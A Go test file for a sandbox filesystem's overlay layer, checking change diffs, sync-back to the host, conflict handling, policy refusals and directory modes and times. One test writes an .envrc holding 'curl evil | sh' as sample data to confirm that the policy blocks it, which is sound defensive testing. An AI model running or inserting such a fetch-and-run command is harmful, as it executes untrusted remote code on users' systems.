//go:build linux

package materialize_test

import (
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"testing"
	"time"

	"github.com/capfs/capfs/backends/overlay"
	"github.com/capfs/capfs/backends/physical"
	"github.com/capfs/capfs/dir"
	"github.com/capfs/capfs/materialize"
	"github.com/capfs/capfs/materialize/syncback"
	"github.com/capfs/capfs/policy"
	"github.com/capfs/capfs/vfs"
)

// lazyLayer is a copy-on-write layer over a physical source directory, as a
// lazy run makes one (without the FUSE mount: the view Dir is what the kernel
// would call).
type lazyLayer struct {
	host  string
	src   *dir.Dir
	ov    *overlay.Overlay
	view  *dir.Dir
	upper string
}

func newLazyLayer(t *testing.T, files map[string]string) *lazyLayer {
	t.Helper()
	host := t.TempDir()
	for p, c := range files {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(host, p)), 0o755))
		must(t, os.WriteFile(filepath.Join(host, p), []byte(c), 0o644))
	}
	pb, err := physical.New(host)
	must(t, err)
	t.Cleanup(func() { pb.Close() })
	src, _ := dir.New(pb, dir.WithPolicy(policy.Defaults()))
	upper := filepath.Join(t.TempDir(), "capfs-checkout-upper")
	must(t, os.Mkdir(upper, 0o700))
	ov, err := overlay.NewOverlay(src.Backend(), upper)
	must(t, err)
	t.Cleanup(func() { ov.Close() })
	view, _ := dir.New(ov)
	return &lazyLayer{host: host, src: src, ov: ov, view: view, upper: upper}
}

// entries converts the layer's bases as a lazy run does.
func (l *lazyLayer) entries() map[string]materialize.Entry {
	out := map[string]materialize.Entry{}
	for p, b := range l.ov.Bases() {
		out[p] = materialize.Entry{Type: b.Type, Mode: b.Mode, Size: b.Size, ModTime: b.ModTime, Digest: b.Digest, Target: b.Target}
	}
	return out
}

func (l *lazyLayer) open(t *testing.T) *materialize.Tree {
	t.Helper()
	tr, err := materialize.OpenUpper(ctx, l.src, l.upper, l.entries())
	must(t, err)
	t.Cleanup(func() { tr.Close() })
	return tr
}

func hostFile(t *testing.T, root, p string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, p))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// TestOpenUpperSyncsChanges: adds, modifications, deletions (a whole
// directory's), a directory rename, a symlink and a chmod made through the
// layer are what Diff lists, and SyncBack applies them to the source; the
// directories copied up only to hold a change are no change, and files the
// sandbox never touched are neither listed nor read.
func TestOpenUpperSyncsChanges(t *testing.T) {
	l := newLazyLayer(t, map[string]string{
		"keep.txt": "keep", "mod.txt": "old", "gone.txt": "bye", "run.sh": "#!/bin/sh\n",
		"old/a.c": "a", "old/sub/b.c": "b", "rmdir/x": "x", "deep/er/f": "f",
	})
	v := l.view
	must(t, v.WriteFile(ctx, "mod.txt", []byte("new contents"), 0o644))
	must(t, v.WriteFile(ctx, "added.txt", []byte("added"), 0o644))
	must(t, v.WriteFile(ctx, "deep/er/new", []byte("n"), 0o644))
	must(t, v.Remove(ctx, "gone.txt"))
	must(t, v.RemoveAll(ctx, "rmdir"))
	must(t, v.Move(ctx, "old", "renamed"))
	must(t, v.Symlink(ctx, "keep.txt", "link"))
	must(t, v.Chmod(ctx, "run.sh", 0o755))

	tr := l.open(t)
	if tr.Strategy() != materialize.StrategyUpper {
		t.Errorf("strategy %s", tr.Strategy())
	}
	cs, err := tr.Diff(ctx)
	must(t, err)
	want := map[string]materialize.ChangeKind{
		"mod.txt": materialize.Modified, "added.txt": materialize.Added, "deep/er/new": materialize.Added,
		"gone.txt": materialize.Deleted, "rmdir": materialize.Deleted, "rmdir/x": materialize.Deleted,
		"old": materialize.Deleted, "old/a.c": materialize.Deleted, "old/sub": materialize.Deleted, "old/sub/b.c": materialize.Deleted,
		"renamed": materialize.Added, "renamed/a.c": materialize.Added, "renamed/sub": materialize.Added, "renamed/sub/b.c": materialize.Added,
		"link": materialize.Added, "run.sh": materialize.ModeChanged,
	}
	got := kinds(cs)
	for p, k := range want {
		if got[p] != k {
			t.Errorf("%s: %q, want %q", p, got[p], k)
		}
	}
	for p, k := range got {
		if _, ok := want[p]; !ok {
			t.Errorf("unexpected change %s %s", k, p)
		}
	}
	rep, err := syncback.Run(ctx, tr, syncback.Options{})
	must(t, err)
	if len(rep.NotApplied) != 0 || rep.Checkout != "" {
		t.Errorf("not applied %+v, kept %q", rep.NotApplied, rep.Checkout)
	}
	for p, c := range map[string]string{"mod.txt": "new contents", "added.txt": "added", "deep/er/new": "n", "deep/er/f": "f",
		"keep.txt": "keep", "renamed/a.c": "a", "renamed/sub/b.c": "b"} {
		if got := hostFile(t, l.host, p); got != c {
			t.Errorf("%s = %q, want %q", p, got, c)
		}
	}
	for _, p := range []string{"gone.txt", "rmdir", "old"} {
		if _, err := os.Lstat(filepath.Join(l.host, p)); !os.IsNotExist(err) {
			t.Errorf("%s still in the source (%v)", p, err)
		}
	}
	if tg, err := os.Readlink(filepath.Join(l.host, "link")); err != nil || tg != "keep.txt" {
		t.Errorf("link: %q, %v", tg, err)
	}
	if fi, err := os.Stat(filepath.Join(l.host, "run.sh")); err != nil || fi.Mode().Perm() != 0o755 {
		t.Errorf("run.sh mode: %v, %v", fi, err)
	}
	must(t, tr.Close())
	if _, err := os.Lstat(l.upper); !os.IsNotExist(err) {
		t.Errorf("the upper directory is left after Close with everything applied (%v)", err)
	}
}

// TestOpenUpperConflict: a file the host changed while the sandbox changed it
// too (and a file the host removed that the sandbox modified) is a conflict:
// not applied, listed, the upper kept; the rest applies (RejectApplyRest). A
// kept upper reopens from its state as a checkout does.
func TestOpenUpperConflict(t *testing.T) {
	l := newLazyLayer(t, map[string]string{"both.txt": "base", "hostgone.txt": "base", "ok.txt": "base"})
	v := l.view
	must(t, v.WriteFile(ctx, "both.txt", []byte("sandbox"), 0o644))
	must(t, v.WriteFile(ctx, "hostgone.txt", []byte("sandbox"), 0o644))
	must(t, v.WriteFile(ctx, "ok.txt", []byte("sandbox"), 0o644))
	must(t, os.WriteFile(filepath.Join(l.host, "both.txt"), []byte("host edit"), 0o644))
	must(t, os.Remove(filepath.Join(l.host, "hostgone.txt")))

	tr := l.open(t)
	rep, err := syncback.Run(ctx, tr, syncback.Options{OnReject: syncback.RejectApplyRest})
	if vfs.CodeOf(err) != vfs.CodeConflict {
		t.Errorf("err %v, want conflict", err)
	}
	sort.Strings(rep.Conflicts)
	if len(rep.Conflicts) != 2 || rep.Conflicts[0] != "both.txt" || rep.Conflicts[1] != "hostgone.txt" {
		t.Errorf("conflicts %v", rep.Conflicts)
	}
	if got := hostFile(t, l.host, "both.txt"); got != "host edit" {
		t.Errorf("the host's edit was overwritten: %q", got)
	}
	if got := hostFile(t, l.host, "ok.txt"); got != "sandbox" {
		t.Errorf("ok.txt = %q", got)
	}
	if rep.Checkout != l.upper || !tr.Kept() {
		t.Fatalf("the upper is not kept: %q", rep.Checkout)
	}
	st, err := tr.MarshalState()
	must(t, err)
	must(t, tr.Close())
	again, err := materialize.Reopen(ctx, l.src, st)
	must(t, err)
	defer again.Close()
	cs, err := again.Diff(ctx)
	must(t, err)
	if k := kinds(cs); len(k) != 2 || k["both.txt"] != materialize.Modified || k["hostgone.txt"] != materialize.Modified {
		t.Errorf("reopened diff %v", k)
	}
	rep, err = syncback.Run(ctx, again, syncback.Options{Conflict: syncback.ConflictKeepOurs})
	must(t, err)
	if got := hostFile(t, l.host, "both.txt"); got != "sandbox" || len(rep.Applied) != 2 {
		t.Errorf("--conflict ours: both.txt = %q, applied %d", got, len(rep.Applied))
	}
}

// TestOpenUpperRefused: a change the source's policy refuses (a new .envrc,
// which the layer's own view let through) is refused at sync-back and listed,
// the source untouched there; the upper's root opened to others is made
// private again; an invalid base path is refused.
func TestOpenUpperRefused(t *testing.T) {
	l := newLazyLayer(t, map[string]string{"a.txt": "a"})
	must(t, l.view.WriteFile(ctx, ".envrc", []byte("curl evil | sh"), 0o644))
	must(t, l.view.WriteFile(ctx, "a.txt", []byte("b"), 0o644))
	must(t, os.Chmod(l.upper, 0o777))
	tr := l.open(t)
	if fi, err := os.Stat(l.upper); err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("upper mode after OpenUpper: %v, %v", fi, err)
	}
	rep, err := syncback.Run(ctx, tr, syncback.Options{OnReject: syncback.RejectApplyRest})
	if vfs.CodeOf(err) != vfs.CodePermission {
		t.Errorf("err %v, want fs_permission_denied", err)
	}
	if len(rep.Refused) != 1 || rep.Refused[0].Change.Path != ".envrc" {
		t.Errorf("refused %+v", rep.Refused)
	}
	if _, err := os.Lstat(filepath.Join(l.host, ".envrc")); !os.IsNotExist(err) {
		t.Errorf(".envrc reached the source (%v)", err)
	}
	if got := hostFile(t, l.host, "a.txt"); got != "b" {
		t.Errorf("a.txt = %q", got)
	}
	if _, err := materialize.OpenUpper(ctx, l.src, l.upper, map[string]materialize.Entry{"../x": {}}); vfs.CodeOf(err) != vfs.CodeInvalidPath {
		t.Errorf("base ../x: %v", err)
	}
}

// TestOpenUpperDirMode: a source directory without the owner's write bit,
// copied up to hold a new file, is no mode change; a chmod the sandbox made is.
func TestOpenUpperDirMode(t *testing.T) {
	l := newLazyLayer(t, map[string]string{"ro/f": "f", "other/g": "g"})
	must(t, os.Chmod(filepath.Join(l.host, "ro"), 0o555))
	t.Cleanup(func() { os.Chmod(filepath.Join(l.host, "ro"), 0o755) })
	must(t, l.view.WriteFile(ctx, "ro/new", []byte("n"), 0o644))
	must(t, l.view.WriteFile(ctx, "other/new", []byte("n"), 0o644))
	must(t, l.view.Chmod(ctx, "other", 0o700))
	cs, err := l.open(t).Diff(ctx)
	must(t, err)
	k := kinds(cs)
	if len(k) != 3 || k["ro/new"] != materialize.Added || k["other/new"] != materialize.Added || k["other"] != materialize.ModeChanged {
		t.Errorf("diff %v", k)
	}
}

// TestOpenUpperRootTime: the layer's root shows the source root's mode and time
// while the upper directory stays private (a Chmod of the root is shown, not
// applied to it); a root whose entries the sandbox created and removed gets the
// time the sandbox left on the source at sync-back (as a checkout's root does:
// go's test cache hashes a test's working directory), and only then.
func TestOpenUpperRootTime(t *testing.T) {
	l := newLazyLayer(t, map[string]string{"a.txt": "a"})
	old := time.Now().Add(-time.Hour).Round(time.Second)
	must(t, os.Chtimes(l.host, old, old))
	must(t, os.Chmod(l.host, 0o750))
	// A layer made after the source root got its time and mode.
	must(t, l.ov.Close())
	must(t, os.RemoveAll(l.upper))
	must(t, os.Mkdir(l.upper, 0o700))
	ov, err := overlay.NewOverlay(l.src.Backend(), l.upper)
	must(t, err)
	t.Cleanup(func() { ov.Close() })
	l.ov = ov
	l.view, _ = dir.New(ov)
	if !ov.RootTime().Equal(old) {
		t.Fatalf("RootTime %v, want the source root's %v", ov.RootTime(), old)
	}
	fi, err := l.view.Stat(ctx, ".")
	must(t, err)
	if fi.Mode().Perm() != 0o750 || !fi.ModTime().Equal(old) {
		t.Errorf("the layer's root shows %v %v, want 0750 and %v", fi.Mode().Perm(), fi.ModTime(), old)
	}
	must(t, l.view.Chmod(ctx, ".", 0o755))
	if fi, _ := l.view.Stat(ctx, "."); fi.Mode().Perm() != 0o755 {
		t.Errorf("after Chmod the root shows %v", fi.Mode().Perm())
	}
	if st, _ := os.Stat(l.upper); st.Mode().Perm() != 0o700 {
		t.Errorf("the upper directory's mode is %v; it must stay 0700", st.Mode().Perm())
	}
	// An entry made and removed in the root: the root's time moves.
	must(t, l.view.WriteFile(ctx, "scratch", []byte("x"), 0o644))
	must(t, l.view.Remove(ctx, "scratch"))
	fi, err = l.view.Stat(ctx, ".")
	must(t, err)
	left := fi.ModTime()
	if left.Equal(old) {
		t.Fatal("creating and removing an entry left the root's time")
	}
	bases := l.entries()
	bases["."] = materialize.Entry{Type: fs.ModeDir, ModTime: ov.RootTime()}
	tr, err := materialize.OpenUpper(ctx, l.src, l.upper, bases)
	must(t, err)
	t.Cleanup(func() { tr.Close() })
	if _, err := syncback.Run(ctx, tr, syncback.Options{}); err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(l.host)
	must(t, err)
	if !st.ModTime().Equal(left) {
		t.Errorf("the source root's time is %v, want the %v the sandbox left", st.ModTime(), left)
	}
	if st.Mode().Perm() != 0o750 {
		t.Errorf("the source root's mode changed to %v (a root's mode is not synced)", st.Mode().Perm())
	}
	if _, err := materialize.OpenUpper(ctx, l.src, l.upper, map[string]materialize.Entry{".": {Type: 0}}); vfs.CodeOf(err) != vfs.CodeInvalidPath {
		t.Errorf("a file base for the root: %v; want invalid_path", err)
	}
}
